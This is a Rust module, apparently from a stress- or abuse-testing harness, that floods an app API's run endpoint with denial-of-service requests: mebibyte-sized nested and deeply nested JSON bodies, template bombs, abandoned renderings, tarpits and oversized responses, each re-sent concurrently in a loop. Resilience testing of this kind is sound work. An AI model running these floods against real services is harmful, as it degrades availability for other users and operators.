//! Attacks by the owner of a token, with apps and their inputs.

use std::time::Duration;

use reqwest::RequestBuilder;
use serde_json::{Value, json};
use tokio::time;

use crate::{
    apps::{BOMBS, FILTERS, INPUTS, LARGE, TARPIT},
    attacker::Attacker,
};

const MIB: usize = 1 << 20;

/// Sends requests at once, and each of them again when it is answered.
fn repeat(attacker: &Attacker, requests: Vec<RequestBuilder>) {
    for request in requests {
        let attacker = attacker.clone();
        attacker.clone().spawn(async move {
            while let Some(again) = request.try_clone() {
                attacker.send(again).await;
                time::sleep(Duration::from_millis(100)).await;
            }
        });
    }
}

fn blocking() -> Value {
    json!({"inputs": {}, "response_mode": "blocking"})
}

fn raw_run(attacker: &Attacker, body: String) -> RequestBuilder {
    let account = &attacker.account;
    let request = account.client.post(format!("{}{}", account.url, account.run_path(INPUTS)));
    request.bearer_auth(&account.token).header("content-type", "application/json").body(body)
}

pub async fn nested_empty_lists(attacker: Attacker) {
    let lists = vec!["[]"; (MIB - 100) / 3].join(",");
    let body = format!(r#"{{"response_mode":"blocking","inputs":{{"name":"x","a":[{lists}]}}}}"#);
    repeat(&attacker, (0..55).map(|_| raw_run(&attacker, body.clone())).collect());
}

pub async fn deep_json(attacker: Attacker) {
    let deep = |open: &str, close: &str| {
        let depth = (MIB - 100) / (open.len() + close.len());
        format!(r#"{{"response_mode":"blocking","inputs":{{"a":{}1{}}}}}"#, open.repeat(depth), close.repeat(depth))
    };
    let bodies = [deep("[", "]"), deep(r#"{"":"#, "}"), "[".repeat(MIB), r#"{"a":"#.repeat(MIB / 5)];
    repeat(&attacker, (0..32).map(|number| raw_run(&attacker, bodies[number % bodies.len()].clone())).collect());
}

pub async fn template_bombs(attacker: Attacker) {
    let names = BOMBS.iter().cycle().take(8 * BOMBS.len());
    repeat(&attacker, names.map(|(name, _)| attacker.account.run(name, &blocking())).collect());
}

/// Starts renderings and leaves.
pub async fn cancelled_filters(attacker: Attacker) {
    for _ in 0..16 {
        let attacker = attacker.clone();
        attacker.clone().spawn(async move {
            loop {
                let run = attacker.send(attacker.account.run(FILTERS, &blocking()));
                if time::timeout(Duration::from_millis(80), run).await.is_err() {
                    attacker.outcomes.record_end("left");
                }
            }
        });
    }
}

pub async fn tarpits(attacker: Attacker) {
    repeat(&attacker, (0..64).map(|_| attacker.account.run(TARPIT, &blocking())).collect());
}

pub async fn large_responses(attacker: Attacker) {
    repeat(&attacker, (0..64).map(|_| attacker.account.run(LARGE, &blocking())).collect());
}
